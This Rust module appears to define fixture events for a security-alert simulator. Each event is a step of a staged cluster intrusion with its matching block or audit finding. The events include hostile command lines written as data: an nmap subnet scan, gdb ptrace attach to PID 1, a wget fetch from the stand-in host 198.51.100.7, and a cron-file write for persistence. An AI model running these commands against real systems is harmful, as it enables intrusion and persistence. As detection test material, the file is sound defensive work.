//! How the attack spreads: what is tried from the storefront against its neighbours, the network
//! and the nodes.

use super::{
    attack::{AUDITED, BLOCKED, INTRUDER},
    cast::HOST,
    deed::{Deed, Finding},
};

/// What no explicit rule allowed: no severity, tags or message.
const POSTURE: Finding = Finding { policy: "DefaultPosture", severity: "", ..BLOCKED };

/// A process on the node itself.
const ON_NODE: Deed =
    Deed { on: HOST, parent: "/usr/sbin/sshd", result: "Operation not permitted", ..INTRUDER };

/// Everything beyond the storefront.
pub(super) const DEEDS: &[Deed] = &[
    // The neighbours are tried.
    Deed {
        operation: "Capabilities",
        process: "/usr/bin/nmap",
        source: "/usr/bin/nmap -sS 10.244.1.0/24",
        data: "lsm=CAPABLE CAP_NET_RAW",
        resource: "CAP_NET_RAW",
        program: "nmap",
        result: "Operation not permitted",
        finding: Some(Finding {
            policy: "shop-block-raw-sockets",
            severity: "6",
            tags: "MITRE,MITRE_T1046_network_service_discovery",
            message: "Raw sockets are blocked",
            ..BLOCKED
        }),
        times: 2,
        ..INTRUDER
    },
    Deed {
        operation: "Syscall",
        process: "/usr/bin/gdb",
        source: "/usr/bin/gdb -p 1",
        data: "syscall=SYS_PTRACE request=PTRACE_ATTACH pid=1 process=/usr/sbin/apache2",
        program: "gdb",
        result: "Passed",
        finding: Some(Finding {
            policy: "shop-watch-ptrace",
            severity: "7",
            tags: "MITRE,MITRE_T1055.008_ptrace_system_calls",
            message: "A process was taken hold of",
            ..AUDITED
        }),
        ..INTRUDER
    },
    Deed {
        operation: "Network",
        process: "/usr/bin/mysql",
        source: "/usr/bin/mysql -h mysql-0.mysql.shop.svc",
        resource: "remoteip={ip} port=3306 protocol=TCP",
        data: "kprobe=tcp_connect domain=AF_INET",
        program: "mysql",
        result: "Passed",
        finding: Some(Finding { action: "Audit", enforcer: "eBPF Monitor", ..POSTURE }),
        ..INTRUDER
    },
    // The node's firewall sees what leaves, and what knocks.
    Deed {
        operation: "NetworkFirewall",
        parent: "",
        resource: "EGRESS",
        data: "SourceIP={ip} SourcePort=0 DestinationIP=198.51.100.7 DestinationPort=3333 Protocol=TCP QuotaLevel=pod QuotaLimit=2MB",
        tty: "",
        uid: 0,
        finding: Some(Finding {
            kind: "MatchedNetworkPolicy",
            policy: "shop-egress-quota",
            severity: "6",
            message: "The pod's quota for traffic out of the cluster is used up",
            enforcer: "NetworkPolicyEnforcer",
            ..BLOCKED
        }),
        times: 2,
        ..INTRUDER
    },
    Deed {
        on: "checkout",
        operation: "NetworkFirewall",
        parent: "",
        resource: "INGRESS",
        data: "SourceIP={ip} SourcePort={n} DestinationIP={ip} DestinationPort=8443 Protocol=TCP",
        tty: "",
        uid: 0,
        result: "Passed",
        finding: Some(Finding {
            kind: "MatchedNetworkPolicy",
            policy: "payments-only-from-checkout",
            severity: "5",
            action: "Audit",
            enforcer: "NetworkPolicyEnforcer",
            ..BLOCKED
        }),
        ..INTRUDER
    },
    // The nodes themselves.
    Deed {
        operation: "Syscall",
        process: "/usr/sbin/sshd",
        source: "/usr/sbin/sshd",
        data: "syscall=SYS_SETUID userid=0",
        program: "sshd",
        tty: "",
        uid: 204,
        finding: Some(Finding { kind: "MatchedHostPolicy", ..POSTURE }),
        ..ON_NODE
    },
    Deed {
        process: "/usr/bin/wget",
        source: "/bin/bash",
        resource: "/usr/bin/wget http://198.51.100.7/x",
        program: "bash",
        uid: 1000,
        finding: Some(Finding { kind: "MatchedHostPolicy", ..POSTURE }),
        ..ON_NODE
    },
    Deed {
        operation: "File",
        process: "/usr/bin/tee",
        source: "/usr/bin/tee -a /etc/cron.d/x",
        resource: "/etc/cron.d/x",
        data: "syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_CREAT|O_APPEND",
        program: "tee",
        uid: 0,
        finding: Some(Finding {
            kind: "MatchedHostPolicy",
            policy: "hsp-protect-cron",
            severity: "7",
            tags: "MITRE,MITRE_T1053.003_cron",
            message: "A change of the node's scheduled jobs was blocked",
            enforcer: "SELinux",
            ..BLOCKED
        }),
        ..ON_NODE
    },
    Deed {
        operation: "Device",
        parent: "",
        resource: "USB MASS-STORAGE",
        data: "Class=8 SubClass=6 Protocol=80 Level=1 SysPath=/sys/bus/usb/devices/1-2:1.0",
        tty: "",
        result: "Removed",
        finding: Some(Finding {
            kind: "MatchedHostPolicy",
            policy: "hsp-block-usb-storage",
            severity: "8",
            tags: "MITRE,MITRE_T1091_replication_through_removable_media",
            message: "A USB storage device was removed",
            enforcer: "USBDeviceHandler",
            ..BLOCKED
        }),
        ..ON_NODE
    },
];
